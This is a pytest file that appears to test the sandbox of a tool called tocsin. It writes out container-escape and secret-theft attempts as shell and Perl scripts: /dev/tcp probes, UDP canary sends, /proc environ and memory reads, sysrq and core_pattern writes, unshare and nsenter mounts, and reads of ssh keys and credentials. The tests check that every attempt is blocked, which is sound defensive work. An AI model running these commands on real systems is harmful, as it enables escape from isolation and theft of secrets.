"""Attacks from inside a step on what is beside it: the network, the machine's programs, the kernel's own memories.

Each is made as in `test_guarding`: by the steps of an ordinary user's server, of root's, and of root's without
bubblewrap. The step's record must say what it was kept from.
"""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import os
import random
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tocsin.integrations.isolation import STEP_UID
from tocsin.integrations.sieve import knows_fence

from .attack import CANARY, ORDINARY, Ground

TRY = "for each in {places}; do (exec 3<>/dev/tcp/$each) && echo reached $each; done; true"


@pytest.fixture
def listener() -> Iterator[int]:
    """The port of a server of this machine on all of its addresses: as tocsin's own API is."""
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as server:
        yield server.getsockname()[1]


def find_own_addresses() -> list[str]:
    """All that this machine is called by."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        try:
            asked.connect(("192.0.2.1", 9))
            own = [asked.getsockname()[0]]
        except OSError:
            own = []
    return ["127.0.0.1", "localhost", "127.1.2.3", "0.0.0.0", "::1", "::ffff:127.0.0.1", *own]


def test_a_read_reaches_neither_the_servers_own_port_nor_another_host(ground: Ground, listener: int) -> None:
    places = " ".join(f"{host}/{listener}" for host in find_own_addresses())
    _, said = ground.step(TRY.format(places=f"{places} 192.0.2.1/80 example.org/80"))
    assert "reached" not in said
    assert "why It was kept from" in said
    assert f'network = ["127.0.0.1:{listener}"' in said


def test_a_declared_host_is_reached_and_no_other_port_of_it(ground: Ground, listener: int) -> None:
    with socket.create_server(("127.0.0.1", 0)) as other:
        ground.target(directory="work", network=[f"127.0.0.1:{listener}"])
        port = other.getsockname()[1]
        _, said = ground.step(TRY.format(places=f"127.0.0.1/{listener} 127.0.0.1/{port}"))
    assert said.startswith(f"reached 127.0.0.1/{listener}\n")
    assert f"reached 127.0.0.1/{port}" not in said
    assert f"why It was kept from 127.0.0.1:{port}" in said


def test_a_read_asks_no_resolver_and_sends_nothing_out(ground: Ground) -> None:
    """A name that is looked up carries whatever is put in it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.settimeout(0.1)
        port = resolver.getsockname()[1]
        ground.step(f"echo {CANARY} > /dev/udp/127.0.0.1/{port}; getent hosts {CANARY}.example.org; true")
        with pytest.raises(TimeoutError):
            resolver.recv(100)


LOOK = r"""
for each in {pid} 1; do
  cat /proc/$each/environ /proc/$each/mem /proc/$each/root/{data}/keys/chain 2>/dev/null | tr '\0' '\n' | grep {canary}
  ls /proc/$each/fd/ 2>/dev/null | head -1 | sed 's/^/descriptors of '$each' /'
done
kill -9 {pid} 2>/dev/null && echo killed the server
(: < /dev/tty) 2>/dev/null && echo has a terminal
for each in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /sys/power/state /dev/new; do
  (echo 1 > $each) 2>/dev/null && echo wrote $each
done
test -t 0 && echo typed
true
"""


def test_the_server_and_the_kernel_are_out_of_reach(ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOCSIN_TEST_SECRET", CANARY)
    script = LOOK.format(pid=os.getpid(), data=ground.data, canary=CANARY)
    _, said = ground.step(script, changes=True)
    found = [line for line in said.splitlines() if not line.startswith(("descriptors of 1 ", "why "))]
    assert found == []


UNMOUNT = r"""
command -v unshare >/dev/null || exit 0
unshare -Urm sh -c 'umount -l {data}; umount -l {root}/secrets; cat {data}/keys/chain {root}/secrets/smtp; \
  mount --bind / /mnt; cat /mnt{data}/keys/chain /mnt{root}/secrets/smtp; mount -t proc proc /mnt; ls /mnt/{pid}' 2>&1
unshare -Urn sh -c 'for each in 1 {pid}; do nsenter -t $each -n true && echo entered; done'
mount -o remount,rw / 2>&1; mount -t tmpfs tmpfs /mnt 2>&1 && echo mounted
true
"""


@pytest.mark.parametrize("changes", [False, True])
def test_namespaces_of_its_own_open_nothing(ground: Ground, changes: bool) -> None:
    """Whoever is master of nothing can still be master of less."""
    script = UNMOUNT.format(data=ground.data, root=ground.root, pid=os.getpid())
    _, said = ground.step(script, changes=changes)
    assert CANARY not in said
    assert "entered" not in said
    assert "mounted" not in said.splitlines()
    assert (ground.root / "secrets" / "smtp").read_text() == CANARY


def test_memory_that_is_shared_is_its_own(ground: Ground) -> None:
    with tempfile.NamedTemporaryFile(dir="/dev/shm", prefix="tocsin-attack-") as shared:
        shared.write(CANARY.encode())
        shared.flush()
        Path(shared.name).chmod(0o666)
        _, said = ground.step(f"cat {shared.name}; echo mine > {shared.name}; ipcs -m 2>/dev/null | grep -c 0x; true")
        assert Path(shared.name).read_text() == CANARY
    assert CANARY not in said


def test_no_socket_of_the_machine_is_reached(ground: Ground) -> None:
    """Of which one without a name in the file system is everybody's; the others are hidden from reads by mounts."""
    path, name = ground.folder / "power.sock", f"tocsin-attack-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as power, socket.socket(socket.AF_UNIX) as nameless:
        for server, where in ((power, str(path)), (nameless, f"\0{name}")):
            server.bind(where)
            server.listen()
        path.chmod(0o777)
        tries = f"""perl -e '
          socket(S, 1, 1, 0); print "reached nameless\\n" if connect(S, pack("S a*", 1, "\\0{name}"));
          socket(T, 1, 1, 0); print "reached power\\n" if connect(T, pack("S a*", 1, "{path}"));'"""
        _, said = ground.step(tries)
    assert "reached nameless" not in said
    assert "reached power" not in said or ground.server == "root without bubblewrap"


CONNECT = """perl -e '
  for my $each ({places}) {{
    socket(S, 1, 1, 0) and connect(S, pack("S a*", 1, $each)) and print "reached $each\\n";
    socketpair(A, B, 1, 2, 0) and send(A, "{canary}", 0, pack("S a*", 1, $each)) and print "sent to $each\\n";
  }}'; true"""


@pytest.mark.needs("perl")
def test_a_socket_that_the_machine_does_not_list_is_not_reached_either(ground: Ground) -> None:
    """One by a name that counts from where its server stands, as mail servers' are; a container's is not listed too."""
    folder = ground.root / "work"
    with contextlib.ExitStack() as open_:
        open_.enter_context(contextlib.chdir(folder))
        for kind, name in ((socket.SOCK_STREAM, "near"), (socket.SOCK_DGRAM, "post")):
            server = open_.enter_context(socket.socket(socket.AF_UNIX, kind))
            server.bind(name)
            (folder / name).chmod(0o777)
            if kind == socket.SOCK_STREAM:
                server.listen()
        places = ", ".join(f'"{folder}/{each}"' for each in ("near", "post"))
        script = CONNECT.format(places=places, canary=CANARY)
        _, read = ground.step(script)
        _, changed = ground.step(script, changes=True)
    assert "reached" not in read
    assert "sent" not in read
    assert "reached" in changed
    assert "sent" in changed


@pytest.mark.needs("perl")
@pytest.mark.parametrize("terminal", [False, True])
def test_a_change_with_the_machines_network_has_none_of_its_names(ground: Ground, terminal: bool) -> None:
    """A desktop's screen and an old session bus are such names: whoever reaches them is served outside of the box."""
    ground.target(directory="work", terminal=terminal)
    name = f"tocsin-attack-{ground.folder.name}"
    with socket.socket(socket.AF_UNIX) as screen:
        screen.bind(f"\0{name}")
        screen.listen()
        _, said = ground.step(CONNECT.format(places=f'"\\0{name}"', canary=CANARY), changes=True)
    assert ("reached" in said) is not knows_fence()


@pytest.mark.needs("perl")
@pytest.mark.parametrize("ground", ["ordinary"], indirect=True)  # Another uid is another user to PostgreSQL too.
@pytest.mark.parametrize("changes", [False, True])
def test_the_servers_own_postgresql_does_not_take_a_step_for_the_server(ground: Ground, changes: bool) -> None:
    """It knows who asks by the user alone, if that is how it was set up; no `readable` brings it back."""
    path = ground.root / "work" / ".s.PGSQL.5433"
    ground.target(directory="work", readable=[str(path)])
    settings = ground.root / "tocsin.toml"
    url = f"postgresql:///tocsin?host={path.parent}&port=5433"
    settings.write_text(f'{settings.read_text()}\n[store]\nurl = "{url}"\n')
    with socket.socket(socket.AF_UNIX) as database:
        database.bind(str(path))
        database.listen()
        script = CONNECT.format(places=f'"{path}"', canary=CANARY)
        _, said = ground.step(f"{script}; echo '{path}: Connection refused' >&2; exit 2", changes=changes)
    assert "reached" not in said
    assert f"why It was kept from {path}: no step sees the server's data" in said


WAIT = "for n in {{1..600}}; do test -e {sign} && break; sleep 0.05; done\n"
HOLD = "echo {canary} > /tmp/found; ipcmk -M 4096 -p 0666 >/dev/null; echo {canary} > /dev/shm/left\n"
PRY = r"""
for each in /proc/[0-9]*; do
  cat $each/root/tmp/found $each/environ $each/cmdline 2>/dev/null | tr '\0' '\n' | grep -a {canary}
  test ${{each#/proc/}} -gt 20 && kill -0 ${{each#/proc/}} 2>/dev/null && echo could end $(< $each/comm)
done
cat /dev/shm/left; ipcs -m | grep -c 666
true
"""


@pytest.mark.needs("ipcs")
def test_a_step_does_not_come_near_another_that_runs_beside_it(ground: Ground) -> None:
    """Of another incident, under the same user: not its memory, its `/tmp` or its environment, and it cannot end it."""
    begun, over = (ground.root / "work" / each for each in ("begun", "over"))
    first = HOLD.format(canary=CANARY) + f"touch {begun}; KEPT={CANARY} bash -c '{WAIT.format(sign=over)}'; echo ended"
    second = WAIT.format(sign=begun) + PRY.format(canary=f"{CANARY[:-1]}[{CANARY[-1]}]") + f"touch {over}"

    async def both() -> Any:
        return await asyncio.gather(
            ground.attack(first, changes=True, incident="till-1"),
            ground.attack(second, changes=True, incident="till-2"),
        )

    (_, held), (code, said) = ground.serve(both)
    assert "ended" in held
    assert (code, CANARY in said, "could end" in said) == (0, False, False), said
    assert said.splitlines()[0] == "0"


@pytest.mark.needs("perl")
def test_a_read_alters_nothing_but_its_tmp(ground: Ground) -> None:
    """And leaves nothing that stays in memory when it is over."""
    lock, number = Path("/run/lock") / ground.folder.name, random.SystemRandom().getrandbits(30)
    shared = f"perl -e 'print defined shmget({number}, 4096, 01666) ? qq(shared\\n) : qq(not\\n)'"
    _, said = ground.step(f"touch never {lock}; {shared}; echo mine > /tmp/mine; cat /tmp/mine; true")
    assert not (ground.root / "work" / "never").exists()
    assert not lock.exists()
    assert "shared\nmine\n" in said
    assert ctypes.CDLL(None).shmget(number, 0, 0) == -1


CAP_SYS_RESOURCE = 1 << 24
"""Which root lacks in some containers, and then has no say in this."""
LINGER = """cp /bin/cat own; chmod 4755 own; perl -e 'chmod 06755, "own"'
for n in 500 0; do echo $n > /proc/$$/oom_score_adj; done; cat /proc/$$/oom_score_adj; true"""


@pytest.mark.needs("perl")
def test_a_change_leaves_no_program_of_its_users_and_stays_the_first_to_be_ended(ground: Ground) -> None:
    """The second only root can see to, as the docs say."""
    _, said = ground.step(LINGER, changes=True)
    assert (ground.root / "work" / "own").stat().st_mode & 0o6000 == 0
    powers = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("CapEff"))
    has_say = ground.server != "ordinary" and int(powers.split()[1], 16) & CAP_SYS_RESOURCE
    assert said.startswith("1000\n" if has_say else "0\n")


def test_no_terminal_of_another_step_is_written_to(ground: Ground) -> None:
    """What stands there is the other's evidence."""
    near, far = os.openpty()
    try:
        name = os.ttyname(far)
        if os.geteuid() == 0:
            os.chown(name, ORDINARY if ground.server == "ordinary" else STEP_UID, -1)
        ground.step(f"echo forged > {name}; true", changes=True)
        os.set_blocking(near, False)
        with pytest.raises(BlockingIOError):
            os.read(near, 100)
    finally:
        os.close(near)
        os.close(far)


TRAVEL = {
    "the database": "cat {data}/tocsin.db",
    "the keys": "cat {data}/keys/chain 2>/dev/null",
    "the credential": "cd ..; cat .tocsin/credential {root}/.tocsin/credential",
    "another team's intake key": "cat {root}/secrets/other.intake",
    "another workspace's secrets": "head {neighbour}/secrets/smtp",
    "the secret of a channel": "cat {root}/hook",
    "a person's key": "cat {home}/.ssh/id",
}


@pytest.mark.parametrize("what", TRAVEL)
def test_what_is_kept_from_a_step_is_in_its_record(ground: Ground, what: str) -> None:
    for path in (ground.data / "tocsin.db", ground.root / "secrets" / "other.intake"):
        path.write_text(CANARY)
        path.chmod(0o600)
    script = TRAVEL[what].format(
        data=ground.data, root=ground.root, home=ground.home, neighbour=ground.root.with_name("neighbour")
    )
    code, said = ground.step(script, changes=what == "the keys")
    assert code != 0
    assert CANARY not in said
    assert "why It was kept from" in said
    assert script.split()[-1] in said.partition("why ")[2] or "2>/dev/null" in script


KEYS = """python3 - <<'END'
import ctypes, os, socket
libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
search, add = {numbers}
held = ctypes.create_string_buffer(64)
key = libc.syscall(search, 10, -3, b"user", b"tocsin-attack", 0)
if key > 0 and libc.syscall(search, 11, key, held, 64) > 0:
    print("read", held.value.decode())
for ring in (-3, -4):
    if libc.syscall(add, b"user", b"tocsin-left", b"x", 1, ring) > 0:
        print("left a key in", ring)
for family in (40, 38):  # the machine below, and the kernel's ciphers
    try:
        socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_STREAM)
    except OSError:
        continue
    print("has sockets of family", family)
if libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0:
    print("has a ring of calls")
print("tried all")
END
"""


@pytest.mark.parametrize("changes", [False, True])
def test_a_step_has_no_keys_of_the_server_and_no_way_to_the_machine_below(ground: Ground, changes: bool) -> None:
    """Whoever starts the server from their own session has their keys in its ring, and a step would inherit that."""
    machine = os.uname().machine
    search, add = (250, 248) if machine == "x86_64" else (219, 217)
    libc = ctypes.CDLL(None)
    libc.syscall(search, 1, b"tocsin-attack")
    libc.syscall(add, b"user", b"tocsin-attack", CANARY.encode(), len(CANARY), -3)
    code, said = ground.step(KEYS.format(numbers=(search, add)), changes=changes)
    assert (code, said.partition("why ")[0].split("\n")) == (0, ["tried all", ""])
